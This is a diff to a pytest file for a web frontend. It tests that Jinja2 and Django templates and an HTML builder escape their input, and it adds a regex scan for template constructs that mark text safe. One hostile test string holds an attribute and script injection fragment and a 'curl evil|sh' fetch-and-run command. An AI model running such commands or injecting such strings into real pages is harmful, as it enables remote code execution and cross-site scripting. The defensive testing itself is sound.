@@ -1,7 +1,10 @@
-"""HTML is escaped by construction: one builder (``frontend.html``), no markup by string formatting.
+"""HTML is escaped by construction: autoescaped templates (Jinja2 macros, Django templates) and,
+for the renderers not yet moved to Jinja2, one builder (``frontend.html``); no markup by string
+formatting.
 
-The builder's own behaviour is tested first; then every Python module of ``frontend/`` is read
-(AST) and every template scanned, so an unescaped interpolation fails here before review.
+The Jinja2 environment's and the builder's own behaviour are tested first; then every Python module
+of ``frontend/`` is read (AST) and every template scanned, so an unescaped interpolation fails here
+before review.
 """
 
 from __future__ import annotations
@@ -11,19 +14,21 @@ import re
 from pathlib import Path
 
 import pytest
-from django.template import Context, Template
+from django.template import Context, Template, engines
+from jinja2.exceptions import UndefinedError
 from markupsafe import Markup
 
 from frontend.html import h, join, text
 
 ROOT = Path(__file__).resolve().parents[2]
 FRONTEND = ROOT / "frontend"
-TEMPLATE_DIRS = [FRONTEND / "templates", ROOT / "projects" / "templates", ROOT / "config" / "templates"]
+TEMPLATE_DIRS = [FRONTEND / "templates", FRONTEND / "jinja2", ROOT / "projects" / "templates"]
+TEMPLATE_DIRS.append(ROOT / "config" / "templates")
 # These two produce Markup from text they escape themselves (the builder; markdown-it and Pygments).
 TRUSTED = {"frontend/html.py", "frontend/markdown.py"}
 SAFE_MAKERS = {"Markup", "mark_safe", "SafeString", "SafeText", "format_html", "format_html_join"}
 TAG = re.compile(r"<(?:[A-Za-z][A-Za-z0-9-]*(?:[\s/>]|\Z)|/[A-Za-z]|!)")  # a start or end tag, comment
-UNSAFE_TEMPLATE = re.compile(r"\|\s*safe(?:seq)?\b|{%\s*autoescape\s+off|{%\s*filter\s+safe")
+UNSAFE_TEMPLATE = re.compile(r"\|\s*safe(?:seq)?\b|{%-?\s*autoescape\s+(?:off|false)|{%-?\s*filter\s+safe")
 
 HOSTILE = 'x" id="p" data-copy=\'curl evil|sh\' <script>&amp;'
 
@@ -67,6 +72,19 @@ def test_tag_and_attribute_names_must_be_plain_identifiers(name: str) -> None:
 def test_django_templates_print_builder_output_as_is_and_escape_plain_text() -> None:
     rendered = Template("{{ html }}|{{ plain }}").render(Context({"html": h("b", None, "<i>"), "plain": "<i>"}))
     assert rendered == "<b>&lt;i&gt;</b>|&lt;i&gt;"
+
+
+def test_jinja2_macros_escape_text_and_django_templates_print_their_markup_as_is() -> None:
+    macro = engines["jinja2"].from_string('{% macro item(t) %}<li title="{{ t }}">{{ t }}</li>{% endmacro %}')
+    html = macro.template.module.item(HOSTILE)
+    escaped = "x&#34; id=&#34;p&#34; data-copy=&#39;curl evil|sh&#39; &lt;script&gt;&amp;amp;"
+    assert html == f'<li title="{escaped}">{escaped}</li>'
+    assert Template("{{ html }}").render(Context({"html": html})) == html
+
+
+def test_a_misspelt_name_in_a_jinja2_template_fails_instead_of_printing_nothing() -> None:
+    with pytest.raises(UndefinedError):
+        engines["jinja2"].from_string("{{ card.anchr }}").render({"card": object()})
 
 
 # --- the checker over frontend/ ------------------------------------------------------------------
@@ -125,6 +143,20 @@ def test_no_template_marks_text_safe() -> None:
                 if UNSAFE_TEMPLATE.search(line):
                     problems.append(f"{path.relative_to(ROOT)}:{number}: {line.strip()[:80]}")
     assert problems == []
+
+
+UNSAFE_LINES = [
+    "{{ text|safe }}",
+    "{% autoescape off %}",
+    "{%- autoescape false %}",
+    "{% filter safe %}",
+    "{{ x|safeseq }}",
+]
+
+
+@pytest.mark.parametrize("line", UNSAFE_LINES)
+def test_the_template_scan_catches_text_marked_safe(line: str) -> None:
+    assert UNSAFE_TEMPLATE.search(line)
 
 
 @pytest.mark.parametrize(
